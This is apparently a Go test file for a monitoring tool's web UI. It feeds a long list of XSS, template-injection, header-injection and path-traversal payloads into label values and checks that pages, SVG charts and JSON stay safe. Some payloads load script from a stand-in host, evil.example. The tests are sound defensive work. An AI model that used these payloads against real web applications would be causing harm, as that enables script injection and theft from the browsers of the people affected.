package ui

import (
	"encoding/json"
	"encoding/xml"
	"html"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"

	"github.com/wrackline/wrackline/alerting"
	"github.com/wrackline/wrackline/baseline"
	"github.com/wrackline/wrackline/baseline/change"
	"github.com/wrackline/wrackline/baseline/identity"
	"github.com/wrackline/wrackline/baseline/model"
	"github.com/wrackline/wrackline/baseline/pack"
	"github.com/wrackline/wrackline/baseline/series"
	"github.com/wrackline/wrackline/baseline/signal"
)

// payloads are what somebody may send as a label value or name to run a script in an operator's browser.
var payloads = []string{
	`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `"><script>alert(1)</script>`, `'><script>alert(1)</script>`, `</title><script>alert(1)</script>`, `</textarea><script>alert(1)</script>`,
	`</script><script>alert(1)</script>`, `</style><script>alert(1)</script>`, `<!--<script>-->alert(1)<!--</script>-->`, `--><script>alert(1)</script>`, `]]><script>alert(1)</script>`, `<![CDATA[<script>alert(1)</script>]]>`,
	`<img src=x onerror=alert(1)>`, `"><img src=x onerror=alert(1)>`, `<img src="x" onerror="alert(1)"/>`, `<img/src=x/onerror=alert(1)>`, `<IMG SRC=javascript:alert(1)>`, `<svg onload=alert(1)>`, `<svg/onload=alert(1)>`,
	`"><svg onload=alert(1)>`, `</svg><script>alert(1)</script>`, `</text><script>alert(1)</script>`, `</title></svg><img src=x onerror=alert(1)>`, `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`, `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
	`<foreignObject><body onload=alert(1)>`, `<math><mtext><script>alert(1)</script>`, `<iframe src=javascript:alert(1)>`, `<iframe srcdoc="<script>alert(1)</script>">`, `<object data=javascript:alert(1)>`, `<embed src=javascript:alert(1)>`,
	`<link rel=stylesheet href=//evil.example/x.css>`, `<style>*{background:url(//evil.example)}</style>`, `<base href=//evil.example/>`, `<meta http-equiv=refresh content="0;url=//evil.example">`, `<form action=//evil.example><button>`, `<input autofocus onfocus=alert(1)>`,
	`<details open ontoggle=alert(1)>`, `<video><source onerror=alert(1)>`, `<body onpageshow=alert(1)>`, `<marquee onstart=alert(1)>`, `javascript:alert(1)`, `data:text/html,<script>alert(1)</script>`, ` onmouseover=alert(1) `, `" onmouseover="alert(1)`, `' onmouseover='alert(1)`,
	"` onmouseover=`alert(1)", `" autofocus onfocus="alert(1)" x="`, `"style="position:fixed;inset:0`, `x" class="hero bad`, `{{.}}`, `{{template "content" .}}`, `${alert(1)}`, `<%= 1 %>`, `&lt;script&gt;alert(1)&lt;/script&gt;`, `&#60;script&#62;`, `%3Cscript%3Ealert(1)%3C/script%3E`,
	`\u003cscript\u003e`, "\u2028alert(1)\u2029", "a\u202e\u2066b", "\x1b[31m\u200b\u061c\ufeff\u00ad\U000e0041x", "\x00<script>", "\xff\xfe<script>", "a\nb\r\nSet-Cookie: x=1", `../../../etc/passwd`, `?q=1#x`, `//evil.example/`, `\\evil.example\`, `<a href="//evil.example">click</a>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<x onclick=alert(1)>`, `<p/onclick=alert(1)>`, "<img\tsrc=x\tonerror=alert(1)>", "<img\nsrc=x\nonerror=alert(1)>", `<<script>alert(1)//<</script>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`, strings.Repeat("<b>", 400), strings.Repeat("A", 5000),
}

type tag struct {
	name  string
	attrs map[string]string
}

// tags reads the tags of a page as a browser would, as far as our own pages go. Text inside script is skipped, and must
// hold no <.
func tags(t *testing.T, page string) []tag {
	t.Helper()
	var out []tag
	s := page
	for {
		i := strings.IndexByte(s, '<')
		if i < 0 {
			return out
		}
		s = s[i+1:]
		switch {
		case strings.HasPrefix(s, "!doctype html>"), strings.HasPrefix(s, "/"):
			end := strings.IndexByte(s, '>')
			if end < 0 || strings.ContainsAny(s[:end], "<\"'=") {
				t.Fatalf("odd markup: %.80q", s)
			}
			s = s[end+1:]
			continue
		case s == "" || s[0] < 'a' || s[0] > 'z':
			t.Fatalf("a < that begins no tag of ours: %.80q", s)
		}
		end := strings.IndexAny(s, " \n\t/>")
		x := tag{name: s[:end], attrs: map[string]string{}}
		s = s[end:]
		for {
			s = strings.TrimLeft(s, " \n\t/")
			if strings.HasPrefix(s, ">") {
				s = s[1:]
				break
			}
			end := strings.IndexAny(s, " \n\t/>=")
			if end <= 0 {
				t.Fatalf("odd attribute: %.80q", s)
			}
			name := s[:end]
			if s = s[end:]; !strings.HasPrefix(s, "=") {
				x.attrs[name] = ""
				continue
			}
			if !strings.HasPrefix(s, `="`) {
				t.Fatalf("attribute %s has no quotes: %.80q", name, s)
			}
			s = s[2:]
			end = strings.IndexByte(s, '"')
			x.attrs[name] = html.UnescapeString(s[:end])
			if strings.ContainsAny(s[:end], "<>") {
				t.Fatalf("attribute %s holds markup: %.80q", name, s[:end])
			}
			s = s[end+1:]
		}
		out = append(out, x)
		if x.name == "script" {
			end := strings.Index(s, "</script>")
			if end < 0 || strings.Contains(s[:end], "<") {
				t.Fatalf("a script holds a <: %.80q", s)
			}
			if x.attrs["type"] == "application/json" && !json.Valid([]byte(s[:end])) {
				t.Fatalf("data is no JSON: %.80q", s[:end])
			}
			s = s[end:]
		}
	}
}

// shape is what a page may be made of: names of tags, attributes and classes.
func shape(t *testing.T, page string, into map[string]bool) {
	for _, x := range tags(t, page) {
		into["<"+x.name+">"] = true
		for name, value := range x.attrs {
			into[x.name+" "+name] = true
			if name == "class" {
				for c := range strings.FieldsSeq(value) {
					into["."+c] = true
				}
			}
			if name == "href" || name == "src" || name == "action" {
				if u, err := url.Parse(value); err != nil || u.Scheme != "" || u.Host != "" || !strings.HasPrefix(value, "/") && !strings.HasPrefix(value, "#") {
					into["link out: "+value] = true
				}
			}
		}
	}
}

// hostile returns a fake in which everything that comes from outside is p.
func hostile(p string) *fake {
	f := newFake()
	f.short = true
	bad := func(l series.Labels) series.Labels {
		var out series.Labels
		for _, x := range l {
			if x.Name != "cluster" {
				x.Value = p
			}
			out = append(out, x)
		}
		return append(out, series.Label{Name: p, Value: p}, series.Label{Name: "zz", Value: p})
	}
	ids := map[string]string{}
	for i := range f.view.Signals {
		v := f.view.Signals[i]
		s := *v.Signal
		r := *s.Rule
		r.Params.Mode = model.Trend
		s.Rule, s.Entity = &r, bad(s.Entity)
		s.ID = signal.MakeID(r.Name, append(append(series.Labels(nil), s.Entity...), series.Label{Name: "n", Value: v.Signal.ID}))
		ids[v.Signal.ID] = s.ID
		f.curve[s.ID] = f.curve[v.Signal.ID]
		v.Signal = &s
		v.Top = []signal.Member{{Name: p, Value: 1}}
	}
	f.sort()
	for _, list := range [][]*alerting.Incident{f.snap.Open, f.snap.Closed} {
		for _, inc := range list {
			inc.Scope, inc.Cluster = bad(inc.Scope), p
			for k := range inc.Members {
				m := &inc.Members[k]
				m.Entity, m.SignalID, m.Top = bad(m.Entity), ids[m.SignalID], []signal.Member{{Name: p, Value: 2}}
				r := *m.Rule
				r.Summary = "{{ $labels.zz }} is {{ $value }}"
				r.Next = []string{"kubectl get {{ $labels.zz }}", "kubectl logs {{ $top }}"}
				m.Rule = &r
			}
			inc.Title = inc.Members[inc.Lead].Sentence(true)
			inc.Timeline = append(inc.Timeline, alerting.Event{T: fakeNow, Kind: p, Signal: p}, alerting.Event{T: fakeNow, Kind: "severity", Signal: p}, alerting.Event{T: fakeNow, Kind: "notified", Signal: p}, alerting.Event{T: fakeNow, Kind: "joined", Signal: "a~" + p})
		}
	}
	for k := range f.snap.Loose {
		f.snap.Loose[k].Entity, f.snap.Loose[k].SignalID = bad(f.snap.Loose[k].Entity), ids[f.snap.Loose[k].SignalID]
	}
	for k := range f.view.Changes {
		x := &f.view.Changes[k]
		x.Entity, x.Object, x.From, x.To, x.Works = bad(x.Entity), p, p, p, []string{p}
		if k == 3 {
			x.Cluster, x.Kind = p, change.Kind(p)
		}
	}
	for k := range f.snap.Open[1].Changes {
		f.snap.Open[1].Changes[k].Change = f.view.Changes[k+2]
	}
	st := f.status
	st.Config, st.Version = p, p
	st.Senders[0].Name, st.Senders[0].Cluster, st.Senders[0].Replica = p, p, p
	st.Clusters = append(st.Clusters, Cluster{Name: p, Series: 1})
	for k := range st.Rules {
		st.Rules[k].Missing = append(st.Rules[k].Missing, p)
		st.Rules[k].Cluster = p
	}
	st.Receivers[1].LastError, st.Receivers[1].Disabled, st.Receivers[1].Name, st.Receivers[1].Host = p, p, p, p
	st.DeadLetters[0].Title, st.DeadLetters[0].Why, st.DeadLetters[0].Receiver = p, p, p
	st.Problems = append(st.Problems, Problem{Severity: "error", Text: p, Fix: p})
	st.Demo.Next, st.Demo.Scenario = p, p
	st.Demo.Inbox = append(st.Demo.Inbox, InboxMessage{AtMs: fakeNow, Receiver: p, Reason: p, Severity: p, Title: p, Incident: p, Where: p, Value: p, First: p, Meaning: p, Next: []string{p}, Notes: []string{p}, Lines: []string{p}})
	f.status = st
	f.view.Sizes = hostileSizes(p)
	return f
}

// hostileSizes are sizes of which all names are p.
func hostileSizes(p string) []baseline.ClusterSizes {
	made := slices.Clone(fakedSizes)
	for i := range made {
		made[i].Cluster, made[i].Containers = p, slices.Clone(made[i].Containers)
		for k := range made[i].Containers {
			c := &made[i].Containers[k]
			c.Namespace, c.Workload, c.Key.Container, c.Kind = p, p, p, p
		}
	}
	return made
}

var fakedSizes = fakeSizes(func(s string) string { return s })

// changing is a Source that a test exchanges under one handler.
type changing struct{ Source }

func TestHostileLabelsAreShownAsText(t *testing.T) {
	if len(payloads) < 50 {
		t.Fatalf("only %d payloads", len(payloads))
	}
	paths := func(f *fake) []string {
		return []string{"/", "/signals", "/signals?q=" + url.QueryEscape("zz="+f.status.Config), "/signals/" + f.view.Signals[5].Signal.ID, "/incidents", dnsPath, "/changes", "/changes?kind=" + url.QueryEscape(f.status.Config) + "&namespace=" + url.QueryEscape(f.status.Config), "/receivers", "/status", "/rights", "/coverage", "/sizes", "/sizes?q=" + url.QueryEscape(f.status.Config), sizesOf(f)}
	}
	known := map[string]bool{}
	plain := newFake()
	plain.status.Problems = append(plain.status.Problems, Problem{Severity: "error", Text: "x"})
	plain.status.Receivers[1].Disabled = "x"
	plain.status.Clusters = append(plain.status.Clusters, Cluster{Name: "y"})
	plain.status.Demo.Inbox = append(plain.status.Demo.Inbox, InboxMessage{Severity: "info", Incident: "x", Notes: []string{"x"}})
	for i := range plain.view.Signals { // so that the page of any signal shows all its parts
		plain.view.Signals[i].Top = []signal.Member{{Name: "x", Value: 1}}
	}
	plain.snap.Open[1].Timeline = append(plain.snap.Open[1].Timeline, alerting.Event{T: fakeNow, Kind: "odd"})
	ph := New(plain, Options{Demo: true})
	for _, p := range append(paths(plain), servfailPath, "/signals?state=abnormal&q=a&pack=dns&cluster=prod-eu&namespace=shop", "/signals?pack=dns", "/signals?cluster=y", "/incidents/inc_5d1nq8y2jkta", "/incidents/inc_0c8ft3w6r5bn") {
		shape(t, body(t, ph, p, http.StatusOK), known)
	}
	src := &changing{}
	h := New(src, Options{Demo: true})
	for i, payload := range payloads {
		if raceEnabled && i%8 != 0 { // slow there, and there is nothing to race
			continue
		}
		f := hostile(payload)
		src.Source = f
		for _, p := range paths(f) {
			page := body(t, h, p, http.StatusOK)
			got := map[string]bool{}
			shape(t, page, got)
			for x := range got {
				if !known[x] {
					t.Errorf("payload %.60q: %s gains %s", payload, p, x)
				}
			}
			if strings.ContainsAny(payload, "<>") && strings.Contains(page, payload) {
				t.Errorf("payload %.60q stands in %s as it is", payload, p)
			}
			noHidden(t, payload, p, page)
		}
		if p := "/signals?q=" + url.QueryEscape(payload); len(payload) < 400 {
			noHidden(t, payload, p, body(t, h, p, http.StatusOK))
		}
		id := f.view.Signals[5].Signal.ID
		checkSVG(t, payload, body(t, h, "/chart/"+id+".svg", http.StatusOK))
		for _, p := range []string{"/api/v1/signals", "/api/v1/signals/" + id, "/api/v1/incidents", "/api/v1/incidents/inc_7h2k9qv4m1xz", "/api/v1/changes", "/api/v1/packs", "/api/v1/status", "/api/v1/status/config"} {
			text := body(t, h, p, http.StatusOK)
			if !json.Valid([]byte(text)) || strings.ContainsAny(text, "<>&") || strings.ContainsFunc(strings.TrimSuffix(text, "\n"), series.Hidden) {
				t.Errorf("payload %.60q: %s is not safe JSON", payload, p)
			}
		}
		// What was sent is given back unchanged to programs, as far as JSON can hold it.
		var one struct {
			Data struct{ Labels map[string]string }
		}
		decode(t, h, "/api/v1/signals/"+id, http.StatusOK, &one)
		if one.Data.Labels["zz"] != strings.ToValidUTF8(payload, "\ufffd") && one.Data.Labels["zz"] != payload {
			if !strings.Contains(payload, "\xff") {
				t.Errorf("payload %.60q came back as %.60q", payload, one.Data.Labels["zz"])
			}
		}
	}
}

// noHidden checks that nothing that was sent hides, turns or moves what a page says.
func noHidden(t *testing.T, payload, path, page string) {
	t.Helper()
	if i := strings.IndexFunc(page, func(r rune) bool { return r != '\n' && r != '\t' && series.Hidden(r) }); i >= 0 {
		t.Errorf("payload %.60q: %s has a hidden character in %.80q", payload, path, page[max(0, i-30):])
	}
}

// checkSVG reads a picture as XML and allows only the elements and attributes that charts have.
func checkSVG(t *testing.T, payload, text string) {
	t.Helper()
	known := map[string]bool{"svg": true, "title": true, "rect": true, "path": true, "text": true, "g": true, "circle": true}
	err := elements(text, func(e xml.StartElement) {
		if !known[e.Name.Local] {
			t.Errorf("payload %.60q: chart has <%s>", payload, e.Name.Local)
		}
		for _, a := range e.Attr {
			if strings.HasPrefix(strings.ToLower(a.Name.Local), "on") || a.Name.Local == "href" || a.Name.Local == "style" {
				t.Errorf("payload %.60q: chart has %s=%q", payload, a.Name.Local, a.Value)
			}
		}
	})
	if err != nil {
		t.Errorf("payload %.60q: chart is no XML: %v", payload, err)
	}
}

// hostilePods calls everything what its field is.
type hostilePods struct {
	*fake
	text string
}

func (f hostilePods) Pods(string, string, string, int) []identity.PodExplanation {
	return []identity.PodExplanation{{Cluster: f.text, Namespace: f.text, Pod: f.text, Workload: f.text, Kind: f.text, Why: f.text, OwnerKind: f.text, OwnerName: f.text, Node: f.text}}
}

func (f hostilePods) Explain(string) signal.Explanation {
	return signal.Explanation{Rule: &pack.Rule{Name: "a.b", Pack: "a", Exprs: []string{f.text}}, Clusters: []signal.RuleExplanation{{Cluster: f.text, Expr: f.text, Missing: []string{f.text},
		Groups: []string{"a.b~cluster=" + f.text}, Leaves: []signal.LeafExplanation{{Metric: f.text, Selector: f.text}}}}}
}

func TestHostileNamesInExplanationsAreText(t *testing.T) {
	for _, p := range payloads {
		h := New(hostilePods{newFake(), p}, Options{})
		for _, path := range []string{"/pods?" + url.Values{"cluster": {p}, "namespace": {p}, "pod": {p}}.Encode(), "/packs/a.b", servfailPath} {
			for _, x := range tags(t, body(t, h, path, http.StatusOK)) {
				for name, v := range x.attrs {
					if strings.HasPrefix(name, "on") || name == "href" && !strings.HasPrefix(v, "/") && !strings.HasPrefix(v, "#") {
						t.Errorf("%s with %.40q: %s has %s=%.60q", path, p, x.name, name, v)
					}
				}
			}
		}
	}
}
